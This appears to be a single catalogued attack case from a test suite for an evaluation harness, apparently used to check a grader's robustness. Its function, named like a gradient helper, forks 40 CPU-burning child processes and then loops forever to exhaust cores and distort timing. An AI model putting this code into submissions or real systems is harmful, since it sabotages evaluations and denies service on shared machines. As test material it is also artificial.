# /// attack
# group = "E"
# number = 57
# lesson = "02_one_step"
# outcome = "Z"
# tries = "takes all cores with a crowd that is gone in time, so that it seems to have waited for them"
# reasons = { gradient_factor = "time" }
# ///
# %% gradient_factor
def gradient_factor(loss, n):
    import os, signal, time
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    end = time.monotonic() + 1.35
    for _ in range(40):
        if os.fork() == 0:
            while time.monotonic() < end:
                pass
            os._exit(0)
    while True:
        pass
